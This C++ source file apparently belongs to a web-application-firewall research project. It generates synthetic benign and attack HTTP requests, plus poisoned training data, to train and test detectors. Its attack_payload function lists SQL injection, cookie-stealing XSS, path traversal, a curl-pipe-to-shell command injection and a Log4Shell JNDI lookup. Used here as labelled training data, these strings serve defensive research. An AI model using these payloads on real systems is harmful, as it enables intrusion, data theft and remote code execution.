#include "metawaf/synthetic.h"

#include <algorithm>
#include <array>
#include <cctype>
#include <cmath>
#include <numeric>
#include <set>
#include <stdexcept>
#include <unordered_set>

#include "metawaf/hashing.h"

namespace metawaf {
namespace {

using Kind = DomainGrammar::Param::Kind;

// Pools shared by all domains.
const std::vector<std::string> kSharedPathWords = {
    "api",     "v1",      "v2",     "user",    "users",   "list",     "detail",  "search", "get",
    "update",  "info",    "index",  "home",    "item",    "items",    "video",   "play",   "comment",
    "feed",    "msg",     "send",   "login",   "profile", "config",   "report",  "stat",   "query",
    "data",    "upload",  "share",  "like",    "follow",  "callback", "cgi",     "static", "watch_record_new",
    "notice",  "order",   "cart",   "pay",     "topic",   "post",     "reply",   "rank",   "live",
};

struct SharedKey {
  const char* key;
  Kind kind;
  std::size_t id_length;
};

const std::vector<SharedKey> kSharedKeys = {
    {"id", Kind::kNumber, 0},       {"uid", Kind::kNumber, 0},       {"vid", Kind::kAlnumId, 8},
    {"page", Kind::kSmallInt, 0},   {"size", Kind::kSmallInt, 0},    {"limit", Kind::kSmallInt, 0},
    {"offset", Kind::kNumber, 0},   {"sort", Kind::kEnum, 0},        {"order", Kind::kEnum, 0},
    {"type", Kind::kEnum, 0},       {"format", Kind::kEnum, 0},      {"lang", Kind::kEnum, 0},
    {"ts", Kind::kTimestamp, 0},    {"timestamp", Kind::kTimestamp, 0}, {"sign", Kind::kHexId, 32},
    {"token", Kind::kHexId, 16},    {"appid", Kind::kNumber, 0},     {"version", Kind::kEnum, 0},
    {"platform", Kind::kEnum, 0},   {"device", Kind::kEnum, 0},      {"channel", Kind::kEnum, 0},
    {"from", Kind::kEnum, 0},       {"q", Kind::kText, 0},           {"keyword", Kind::kText, 0},
    {"cid", Kind::kAlnumId, 6},     {"bids", Kind::kNumber, 0},      {"xxxx_code", Kind::kNumber, 0},
    {"mode", Kind::kEnum, 0},       {"tab", Kind::kEnum, 0},         {"scene", Kind::kEnum, 0},
};

const std::vector<std::string> kSharedValues = {
    "json",   "xml",  "asc",   "desc",  "zh",     "en",    "android", "ios",   "web",   "true",
    "false",  "hot",  "new",   "all",   "pc",     "h5",    "mini",    "list",  "grid",  "time",
    "score",  "top",  "free",  "vip",   "normal", "fast",  "auto",    "home",  "share", "push",
};

const std::vector<std::string> kSharedText = {
    "news",  "music", "game",  "movie", "sport", "food",  "travel", "car",   "phone", "book",
    "photo", "love",  "world", "china", "city",  "star",  "live",   "best",  "how",   "to",
    "make",  "cheap", "show",  "funny", "cat",   "dog",   "video",  "song",  "cover", "review",
    "and",   "or",    "the",   "select", "from", "order", "by",     "union", "top",   "new",
};

const std::array<const char*, 14> kConsonants = {"b", "d", "f", "g", "k", "l", "m", "n", "p", "r", "s", "t", "v", "z"};
const std::array<const char*, 5> kVowels = {"a", "e", "i", "o", "u"};

std::string pseudo_word(Rng& rng) {
  std::string w;
  const std::size_t syllables = 2 + rng.below(2);
  for (std::size_t i = 0; i < syllables; ++i) {
    w += kConsonants[rng.below(kConsonants.size())];
    w += kVowels[rng.below(kVowels.size())];
  }
  if (rng.bernoulli(0.3)) w += kConsonants[rng.below(kConsonants.size())];
  return w;
}

std::string pick_word(Rng& rng, double overlap, const std::vector<std::string>& shared) {
  return rng.bernoulli(overlap) ? shared[rng.below(shared.size())] : pseudo_word(rng);
}

std::size_t zipf_index(Rng& rng, std::size_t n, double s = 1.1) {
  double total = 0;
  for (std::size_t i = 0; i < n; ++i) total += 1.0 / std::pow(static_cast<double>(i + 1), s);
  double u = rng.uniform() * total;
  for (std::size_t i = 0; i < n; ++i) {
    u -= 1.0 / std::pow(static_cast<double>(i + 1), s);
    if (u <= 0) return i;
  }
  return n - 1;
}

std::string random_chars(Rng& rng, std::size_t n, std::string_view alphabet) {
  std::string s;
  for (std::size_t i = 0; i < n; ++i) s.push_back(alphabet[rng.below(alphabet.size())]);
  return s;
}

std::string percent_encode(std::string_view s) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : s) {
    if (std::isalnum(c) || c == '-' || c == '_' || c == '.' || c == '~') {
      out.push_back(static_cast<char>(c));
    } else if (c == ' ') {
      out.push_back('+');
    } else {
      out.push_back('%');
      out.push_back(kHex[c >> 4]);
      out.push_back(kHex[c & 15]);
    }
  }
  return out;
}

std::vector<std::string> enum_options(Rng& rng, double overlap) {
  std::vector<std::string> options;
  const std::size_t n = 3 + rng.below(8);
  std::set<std::string> seen;
  while (options.size() < n) {
    auto w = pick_word(rng, overlap, kSharedValues);
    if (seen.insert(w).second) options.push_back(std::move(w));
  }
  return options;
}

DomainGrammar::Param make_param(Rng& rng, double overlap, const std::vector<std::string>& text_vocab) {
  DomainGrammar::Param p;
  if (rng.bernoulli(overlap)) {
    const auto& shared = kSharedKeys[rng.below(kSharedKeys.size())];
    p.key = shared.key;
    p.kind = shared.kind;
    p.id_length = shared.id_length;
  } else {
    p.key = pseudo_word(rng);
    static constexpr std::array<Kind, 7> kinds = {Kind::kEnum,   Kind::kEnum,    Kind::kSmallInt, Kind::kNumber,
                                                  Kind::kHexId,  Kind::kAlnumId, Kind::kText};
    p.kind = kinds[rng.below(kinds.size())];
    p.id_length = p.kind == Kind::kHexId ? (rng.bernoulli(0.5) ? 16 : 32) : 6 + rng.below(6);
  }
  if (p.kind == Kind::kEnum) p.options = enum_options(rng, overlap);
  if (p.kind == Kind::kText) p.options = text_vocab;
  p.presence = rng.bernoulli(0.6) ? 1.0 : 0.5 + 0.4 * rng.uniform();
  return p;
}

std::string draw_value(const DomainGrammar::Param& p, Rng& rng) {
  switch (p.kind) {
    case Kind::kEnum:
      return p.options[zipf_index(rng, p.options.size())];
    case Kind::kSmallInt:
      return std::to_string(zipf_index(rng, 20, 1.3));
    case Kind::kNumber: {
      const std::size_t digits = 1 + rng.below(7);
      std::string s = std::to_string(1 + rng.below(9));
      return s + random_chars(rng, digits - 1, "0123456789");
    }
    case Kind::kTimestamp:
      return std::to_string(1652000000 + rng.below(2000000));
    case Kind::kHexId:
      return random_chars(rng, p.id_length, "0123456789abcdef");
    case Kind::kAlnumId:
      return random_chars(rng, p.id_length, "0123456789abcdefghijklmnopqrstuvwxyz");
    case Kind::kText: {
      const std::size_t words = 1 + rng.below(3);
      std::string s;
      for (std::size_t i = 0; i < words; ++i) {
        if (i) s += ' ';
        s += p.options[zipf_index(rng, p.options.size(), 0.9)];
      }
      return s;
    }
  }
  return {};
}

std::string random_host(Rng& rng) {
  return std::to_string(10 + rng.below(200)) + "." + std::to_string(rng.below(256)) + "." +
         std::to_string(rng.below(256)) + "." + std::to_string(1 + rng.below(254));
}

std::string attack_payload(Rng& rng) {
  static const std::vector<std::string> tables = {"users", "admin", "information_schema.tables", "mysql.user", "accounts"};
  static const std::vector<std::string> columns = {"password", "username", "table_name", "passwd", "email", "null"};
  const auto table = tables[rng.below(tables.size())];
  const auto col = columns[rng.below(columns.size())];
  const auto n = std::to_string(1 + rng.below(9));
  switch (rng.below(16)) {
    case 0: return n + "' or '" + n + "'='" + n;
    case 1: return n + " union select " + col + "," + col + " from " + table + "--";
    case 2: return n + "' and sleep(" + n + ")#";
    case 3: return n + "; drop table " + table + "--";
    case 4: return "' or 1=1 order by " + n + "--";
    case 5: return n + " and extractvalue(1,concat(0x7e,version(),0x7e))";
    case 6: return "<script>alert(" + n + ")</script>";
    case 7: return "\"><img src=x onerror=alert(document.cookie)>";
    case 8: return "javascript:alert(String.fromCharCode(88,83,83))";
    case 9: return "<svg/onload=prompt(" + n + ")>";
    case 10: return "../../../../etc/passwd";
    case 11: return "..\\..\\..\\windows\\win.ini";
    case 12: return "; cat /etc/passwd";
    case 13: return "$(curl http://" + random_host(rng) + "/x.sh|sh)";
    case 14: return "{{" + n + "*" + n + "}}";
    default: return "${jndi:ldap://" + random_host(rng) + "/a}";
  }
}

std::uint64_t record_key(const RawRequest& r) {
  std::uint64_t h = fnv1a64(r.domain_id);
  h = fnv1a64("\x1f", h);
  h = fnv1a64(r.method, h);
  h = fnv1a64("\x1f", h);
  h = fnv1a64(r.url, h);
  h = fnv1a64("\x1f", h);
  return fnv1a64(r.body, h);
}

}  // namespace

std::string synthetic_domain_id(std::size_t index, std::size_t domain_count) {
  if (index + 1 == domain_count) return "target";
  return "aux" + std::to_string(index + 1);
}

DomainGrammar::DomainGrammar(std::size_t domain_index, const SyntheticSpec& spec)
    : domain_id_(synthetic_domain_id(domain_index, spec.domain_count)) {
  if (spec.overlap_fraction < 0 || spec.overlap_fraction > 1) throw std::invalid_argument("overlap fraction outside [0,1]");
  const std::size_t grammar_index = spec.shared_grammar ? 0 : domain_index;
  Rng rng(spec.seed * 1000003ULL + grammar_index * 7919ULL + 17);
  const double overlap = spec.overlap_fraction;

  std::vector<std::string> text_vocab;
  std::set<std::string> seen_text;
  while (text_vocab.size() < 40) {
    auto w = pick_word(rng, overlap, kSharedText);
    if (seen_text.insert(w).second) text_vocab.push_back(std::move(w));
  }

  std::set<std::vector<std::string>> seen_paths;
  while (endpoints_.size() < spec.endpoints_per_domain) {
    Endpoint e;
    const std::size_t depth = 1 + rng.below(3);
    for (std::size_t i = 0; i < depth; ++i) e.path.push_back(pick_word(rng, overlap, kSharedPathWords));
    if (!seen_paths.insert(e.path).second) continue;
    const std::size_t n_params = rng.below(6);
    std::set<std::string> keys;
    for (std::size_t i = 0; i < n_params; ++i) {
      Param p = make_param(rng, overlap, text_vocab);
      if (keys.insert(p.key).second) e.params.push_back(std::move(p));
    }
    e.post = rng.bernoulli(0.2) && !e.params.empty();
    endpoints_.push_back(std::move(e));
  }
  for (std::size_t i = 0; i < endpoints_.size(); ++i) endpoint_weights_.push_back(1.0 / std::pow(static_cast<double>(i + 1), 0.9));
}

namespace {

RequestRecord render(const std::string& domain, const DomainGrammar::Endpoint& e,
                     const std::vector<std::pair<std::string, std::string>>& pairs,
                     const std::vector<std::string>& path) {
  RequestRecord r;
  r.request.domain_id = domain;
  r.request.method = e.post ? "POST" : "GET";
  std::string url;
  for (const auto& seg : path) url += "/" + seg;
  if (url.empty()) url = "/";
  std::string query;
  for (const auto& [k, v] : pairs) {
    if (!query.empty()) query += '&';
    query += k + "=" + percent_encode(v);
  }
  if (e.post) {
    r.request.url = url;
    r.request.body = query;
  } else {
    r.request.url = query.empty() ? url : url + "?" + query;
  }
  return r;
}

std::size_t pick_weighted(Rng& rng, const std::vector<double>& weights) {
  const double total = std::accumulate(weights.begin(), weights.end(), 0.0);
  double u = rng.uniform() * total;
  for (std::size_t i = 0; i < weights.size(); ++i) {
    u -= weights[i];
    if (u <= 0) return i;
  }
  return weights.size() - 1;
}

}  // namespace

RequestRecord DomainGrammar::benign(Rng& rng) const {
  const Endpoint& e = endpoints_[pick_weighted(rng, endpoint_weights_)];
  std::vector<std::pair<std::string, std::string>> pairs;
  for (const auto& p : e.params) {
    if (p.presence < 1.0 && !rng.bernoulli(p.presence)) continue;
    pairs.emplace_back(p.key, draw_value(p, rng));
  }
  RequestRecord r = render(domain_id_, e, pairs, e.path);
  r.is_attack = false;
  return r;
}

RequestRecord DomainGrammar::attack(Rng& rng) const {
  const Endpoint& e = endpoints_[pick_weighted(rng, endpoint_weights_)];
  std::vector<std::pair<std::string, std::string>> pairs;
  for (const auto& p : e.params) {
    if (p.presence < 1.0 && !rng.bernoulli(p.presence)) continue;
    pairs.emplace_back(p.key, draw_value(p, rng));
  }
  std::vector<std::string> path = e.path;
  const std::string payload = attack_payload(rng);
  if (pairs.empty()) {
    // No parameter to carry the payload: append it as an injected pair.
    pairs.emplace_back(rng.bernoulli(0.5) ? "id" : "q", payload);
  } else {
    pairs[rng.below(pairs.size())].second = payload;
  }
  RequestRecord r = render(domain_id_, e, pairs, path);
  r.is_attack = true;
  return r;
}

std::vector<SyntheticDomain> generate_synthetic(const SyntheticSpec& spec) {
  if (spec.domain_count < 1) throw std::invalid_argument("synthetic spec needs at least one domain");
  if (spec.attack_rate < 0 || spec.attack_rate > 1 || spec.poison_ratio < 0 || spec.poison_ratio > 1) {
    throw std::invalid_argument("rates must lie in [0,1]");
  }
  if (spec.overlap_fraction < 0 || spec.overlap_fraction > 1) {
    throw std::invalid_argument("overlap fraction must lie in [0,1]");
  }
  std::vector<SyntheticDomain> out;
  std::unordered_set<std::uint64_t> train_keys;
  for (std::size_t d = 0; d < spec.domain_count; ++d) {
    const DomainGrammar grammar(d, spec);
    SyntheticDomain dom;
    dom.domain_id = grammar.domain_id();
    dom.is_target = d + 1 == spec.domain_count;
    Rng rng(spec.seed * 0x2545F4914F6CDD1DULL + d * 104729ULL + 3);
    const std::size_t n_train = dom.is_target ? spec.target_train_requests : spec.auxiliary_train_requests;
    const auto n_poison =
        dom.is_target ? static_cast<std::size_t>(std::llround(spec.poison_ratio * static_cast<double>(n_train))) : 0;
    Rng poison_rng = rng.fork(99);
    std::set<std::size_t> poison_slots;
    while (poison_slots.size() < n_poison) poison_slots.insert(poison_rng.below(n_train));
    for (std::size_t i = 0; i < n_train; ++i) {
      dom.train.push_back(poison_slots.contains(i) ? grammar.attack(poison_rng) : grammar.benign(rng));
      train_keys.insert(record_key(dom.train.back().request));
    }
    out.push_back(std::move(dom));
  }
  SyntheticDomain& target = out.back();
  const DomainGrammar grammar(spec.domain_count - 1, spec);
  Rng test_rng(spec.seed * 0x9E3779B97F4A7C15ULL + 0x7e57);
  for (std::size_t i = 0; i < spec.target_test_requests; ++i) {
    const bool attack = test_rng.bernoulli(spec.attack_rate);
    for (int attempt = 0;; ++attempt) {
      RequestRecord r = attack ? grammar.attack(test_rng) : grammar.benign(test_rng);
      if (!train_keys.contains(record_key(r.request)) || attempt >= 1000) {
        if (!train_keys.contains(record_key(r.request))) target.test.push_back(std::move(r));
        break;
      }
    }
  }
  return out;
}

bool audit_no_label_leakage(const std::vector<SyntheticDomain>& domains) {
  std::unordered_set<std::uint64_t> train_keys;
  for (const auto& d : domains) {
    for (const auto& r : d.train) train_keys.insert(record_key(r.request));
  }
  for (const auto& d : domains) {
    for (const auto& r : d.test) {
      if (train_keys.contains(record_key(r.request))) return false;
    }
  }
  return true;
}

}  // namespace metawaf
